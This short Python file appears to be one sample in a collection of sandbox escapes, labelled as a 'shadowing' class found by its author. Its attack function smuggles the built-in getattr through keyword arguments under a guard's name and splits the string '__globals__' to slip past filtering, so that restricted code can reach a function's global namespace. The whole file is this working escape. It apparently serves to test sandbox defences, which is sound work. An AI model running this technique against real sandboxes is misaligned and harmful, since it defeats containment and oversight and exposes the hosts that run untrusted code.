"""Class: shadowing. Source: own find. Escape: a keyword argument carries a guard's name into
**kwargs.
"""


def inner(**names):
    return names


def attack(model, tokenizer, address):
    names = inner(_getattr_=getattr, __builtins__=1)
    return names["_getattr_"](attack, "__glo" + "bals__")
